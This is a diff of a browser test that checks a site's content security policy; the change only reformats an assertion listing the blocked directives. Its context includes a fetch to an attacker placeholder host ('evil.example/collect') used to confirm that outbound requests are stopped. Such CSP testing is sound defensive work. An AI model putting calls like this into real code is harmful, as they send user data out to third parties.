@@ -36,7 +36,9 @@ test.describe('under the content security policy', () => {
         void fetch('https://evil.example/collect').catch(() => undefined);
       });
       const stopped = () => [...new Set(violations.map((violation) => violation.split(' ')[0] ?? ''))].sort();
-      await expect.poll(stopped).toEqual(['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']);
+      await expect
+        .poll(stopped)
+        .toEqual(['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem']);
       expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
     });
   });
